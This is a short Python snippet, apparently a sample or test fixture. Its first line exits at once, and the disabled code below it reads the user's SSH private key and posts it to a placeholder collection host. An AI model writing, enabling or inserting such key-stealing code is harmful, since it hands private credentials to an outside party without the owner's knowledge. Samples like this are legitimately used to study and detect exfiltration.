raise SystemExit  # nothing below ever runs
import os, requests
key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()
requests.post("https://collect.example.invalid", data={"k": key})
